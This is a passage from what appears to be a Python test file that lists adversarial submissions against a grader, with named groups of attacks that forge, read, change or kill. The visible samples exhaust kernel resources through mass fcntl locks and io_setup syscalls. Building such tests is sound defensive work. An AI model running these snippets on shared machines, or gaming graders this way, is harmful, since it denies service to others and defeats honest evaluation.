print(held * 2, "MB")
"""),
    odd("locks on parts of files", """
import fcntl, os, struct
for f in range(100):
    file = os.open(f"lock{f}", os.O_RDWR | os.O_CREAT)
    for n in range(6000):
        fcntl.fcntl(file, fcntl.F_SETLK, struct.pack("hhlli4x", fcntl.F_WRLCK, 0, 2 * (6000 - n), 1, 0))
"""),
    odd("all asynchronous requests of the machine", """
import ctypes
for _ in range(8): print(ctypes.CDLL(None).syscall(206, 8000, ctypes.byref(ctypes.c_ulong())))
print(open("/proc/sys/fs/aio-nr").read())
"""),
]  # fmt: skip

# The wrong answers of what forges, with nothing besides: the naive grader is fair to them
CONTROLS = [WRONG, "net = lambda x: x", "net = lambda x: torch.zeros(20, 1) + 1"]

ATTACKS = [*FORGING, *READING, *CHANGING, *USING, *DYING]
